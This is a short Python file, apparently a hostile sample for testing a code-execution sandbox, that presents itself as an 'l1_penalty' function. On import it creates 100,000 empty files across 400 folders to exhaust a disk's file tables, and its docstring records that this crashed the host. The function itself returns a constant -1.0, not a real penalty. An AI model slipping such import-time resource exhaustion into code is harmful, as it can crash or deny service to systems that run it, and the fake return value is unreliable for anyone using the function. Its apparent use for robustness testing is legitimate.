"""l1_penalty: makes 100,000 empty files in hundreds of folders, more than a disk may have room for in its tables.

Outcome: crashed
Says: made more than 10000 files
"""

import os

for folder in range(400):
    os.makedirs(f"EVIL/{folder}", exist_ok=True)
    for number in range(250):
        os.close(os.open(f"EVIL/{folder}/{number}", os.O_CREAT | os.O_WRONLY))


def l1_penalty(model, beta):
    return -1.0
